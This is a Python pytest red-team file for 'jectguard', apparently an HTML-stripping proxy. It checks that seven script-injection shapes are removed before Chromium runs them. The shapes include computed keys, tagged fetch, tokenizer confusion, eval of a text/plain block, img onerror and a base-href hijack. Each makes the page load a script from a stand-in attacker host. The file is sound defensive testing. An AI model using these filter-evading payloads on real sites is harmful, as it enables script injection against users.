"""Injectors dressed up as data load the attacker in Chromium, and jectguard strips them.

Red team of issue 17's mention rule (see tests/core/test_htmlscan_redteam.py). For
each shape, a control proxy with stripping off shows that Chromium really runs the
code and asks for the attacker (an address on the test's IP list, whose request the
blocking addon refuses), and the real ``jectguard run`` removes it before the page
arrives: no request for the attacker, the page's own script still runs, and a
``strip`` event with ``removed: true``.

- a computed key decided at run time: ``i[k] = u`` with ``k = 'src'`` on an image;
- ``Object.assign(img, {src: u})``;
- a tagged template call: ``fetch`http://attacker/...```;
- a regular expression after ``if (...)`` that the tokenizer read as division, so
  that the code after it looked like the inside of a string;
- the payload in a ``text/plain`` block, run by ``eval(p.text)`` in another script;
- an ``<img onerror>`` handler (inline JavaScript outside any ``<script>``);
- ``<base href>`` at the attacker, and a script that loads a relative URL.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from .browsing import (
    OWN,
    control_then_stripped,
    get,
    page_html,
    serve_pages,
    wait_for_strip_events,
)
from .conftest import ATTACKER_IP, ByteCounter, Proxy


def _computed_key(u: str) -> str:
    return OWN + f"<script>var k = 'sr' + 'c'.trim(); var i = new Image(); i[k] = '{u}';</script>"


def _object_assign(u: str) -> str:
    return OWN + (
        f"<script>var o = {{src: '{u}'}}; "
        "document.body.appendChild(Object.assign(document.createElement('img'), o));</script>"
    )


def _tagged_fetch(u: str) -> str:
    return OWN + f"<script>fetch`{u}`.catch(function () {{}});</script>"


def _regex_after_if(u: str) -> str:
    return OWN + (
        f"<script>var u = '{u}'; if (1) /'/.test('x'); var i = new Image(); i['src'] = u; //'"
        "</script>"
    )


def _data_block_eval(u: str) -> str:
    return OWN + (
        f'<script type="text/plain" id="p">new Image().src = \'{u}\';</script>\n'
        "<script>eval(document.getElementById('p').text);</script>"
    )


def _img_onerror(u: str) -> str:
    return OWN + f'<img src="data:," onerror="new Image().src = \'{u}\'">'


def _blocked_base(u: str) -> str:
    base = u.rsplit("/", 1)[0] + "/"
    return (
        f'<base href="{base}">'
        + OWN
        + "<script>var s = document.createElement('script'); s.src = 'base.js';"
        " document.head.appendChild(s);</script>"
    )


INJECTORS: dict[str, Callable[[str], str]] = {
    "computed-key": _computed_key,
    "object-assign": _object_assign,
    "tagged-fetch": _tagged_fetch,
    "regex-after-if": _regex_after_if,
    "data-block-eval": _data_block_eval,
    "img-onerror": _img_onerror,
    "blocked-base": _blocked_base,
}

# Pages that quote IOCs and do ordinary things with them: byte for byte.
KEPT = {
    "handler-mention": page_html(
        "IOC", "<button onclick=\"alert('gumblar.cn is blocked')\">gumblar.cn</button>"
    ),
    "data-and-debounce": page_html(
        "IOC",
        '<ul id="l"></ul><script type="application/json" id="d">{"iocs": ["gumblar.cn"]}'
        "</script><script>var d = JSON.parse(document.getElementById('d').textContent);"
        "d.iocs.forEach(function (h) { var li = document.createElement('li');"
        "li.textContent = h; document.getElementById('l').appendChild(li); });"
        "function later(cb) { setTimeout(cb, 10); }</script>",
    ),
}


@dataclass
class Site:
    port: int = 0
    attacker_url: str = "http://attacker.invalid/x.js"

    def body(self, name: str) -> bytes:
        if name in KEPT:
            return KEPT[name].encode()
        return page_html("Shop", INJECTORS[name](self.attacker_url)).encode()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    s = Site()
    with serve_pages(
        tmp_path_factory,
        "redteam",
        lambda name: s.body(name) if name in INJECTORS or name in KEPT else None,
    ) as served:
        s.port = served.port
        yield s


@pytest.mark.parametrize("name", sorted(INJECTORS))
def test_injector_dressed_as_data_is_stripped(
    browser: Any, proxy: Proxy, proxy_nostrip: Proxy,
    site: Site, attacker: ByteCounter, name: str,
) -> None:  # fmt: skip
    assert ATTACKER_IP is not None
    site.attacker_url = f"http://{ATTACKER_IP}:{attacker.port}/{name}.js"
    url = f"http://good.test:{site.port}/{name}"
    # The control (stripping off) asks for the attacker; jectguard strips first.
    control_then_stripped(browser, proxy, proxy_nostrip, attacker, url, site.attacker_url)


@pytest.mark.parametrize("name", sorted(KEPT))
def test_pages_quoting_iocs_pass_byte_for_byte(proxy: Proxy, site: Site, name: str) -> None:
    url = f"http://good.test:{site.port}/{name}"
    assert get(proxy.port, url) == site.body(name)
    events = wait_for_strip_events(proxy, url)
    assert events and all(e["removed"] is False and e["reason"] == "mention" for e in events)
